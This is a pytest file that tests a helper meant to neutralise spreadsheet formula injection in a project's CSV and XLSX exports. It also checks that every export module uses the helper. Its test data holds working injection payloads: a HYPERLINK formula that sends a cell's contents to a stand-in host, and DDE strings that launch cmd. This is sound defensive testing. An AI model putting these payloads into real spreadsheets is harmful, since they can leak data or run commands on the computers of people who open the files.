"""Formula injection: the one helper, and every CSV/XLSX that simap writes goes through it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from simap.cells import is_risky, safe_cell, safe_frame

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert is_risky(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "a=b", "-3", "+1.5", "-.5e3", 3, -2.5, None, "e-mail"])
def test_harmless_values_stay(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_frame_keeps_numbers() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "n": [-1, 2], "=col": ["@x", None]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "ok"] and out["n"].tolist() == [-1, 2]
    assert list(out.columns) == ["name", "n", "'=col"] and out["'=col"].iloc[0] == "'@x"
    assert frame["name"].tolist() == ["=1+1", "ok"]  # the input is not changed


def test_codes_csv_export_is_neutralised(tmp_path: Path, tiny_codebook) -> None:
    from simap.report.export import export_codes

    ventures = pd.DataFrame(
        [{"id": "v1", "name": HOSTILE[0], "country": "@Kenya", "sector": "-Health", "year": 2020}]
    )
    assignments = pd.DataFrame(
        [
            {
                "venture_id": "v1",
                "code_id": "DATA",
                "kind": "barrier",
                "source": "human",
                "coder": "ana",
                "status": "accepted",
                "score": None,
                "evidence": [{"field": "description", "start": 0, "end": 4, "text": "=2+5"}],
                "memo": "+memo",
                "created_at": pd.Timestamp("2024-01-01"),
            }
        ]
    )
    path = tmp_path / "codes.csv"
    export_codes(ventures, assignments, tiny_codebook, path, fmt="csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for v in row.values() if v]
    assert cells and not any(is_risky(v) for v in cells), cells
    assert rows[0]["name"] == "'" + HOSTILE[0] and rows[0]["country"] == "'@Kenya"


def test_view_tables_csv_and_xlsx_are_neutralised(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from simap.report.views import write_tables

    tables = {"prevalence": pd.DataFrame({"code": ["=1+1", "OPEN"], "share": [-0.5, 0.3]})}
    write_tables(tables, tmp_path, ["csv", "xlsx"])
    text = (tmp_path / "tables" / "prevalence.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and "-0.5" in text
    sheet = load_workbook(tmp_path / "views.xlsx").worksheets[0]
    values = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in values)  # no formula cell
    assert "'=1+1" in [c.value for c in values] and -0.5 in [c.value for c in values]


def test_codebook_csv_is_neutralised(tiny_codebook) -> None:
    from simap.codebook.loader import dump

    book = tiny_codebook.model_copy(
        update={"codes": [tiny_codebook.codes[0].model_copy(update={"name": "=cmd|calc"})]}
    )
    rows = list(csv.reader(dump(book, "csv").splitlines()))
    assert rows[1][2] == "'=cmd|calc"


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\.to_csv\(|\.to_excel\(|ExcelWriter|Workbook\(")


def test_every_spreadsheet_writer_uses_the_helper() -> None:
    """A new CSV/XLSX export must pass its cells through simap.cells (add it there, not here)."""
    offenders = []
    for path in sorted((ROOT / "src" / "simap").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name == "cells.py" or not WRITERS.search(text):
            continue
        if "simap.cells" not in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"these write CSV/XLSX without simap.cells: {offenders}"
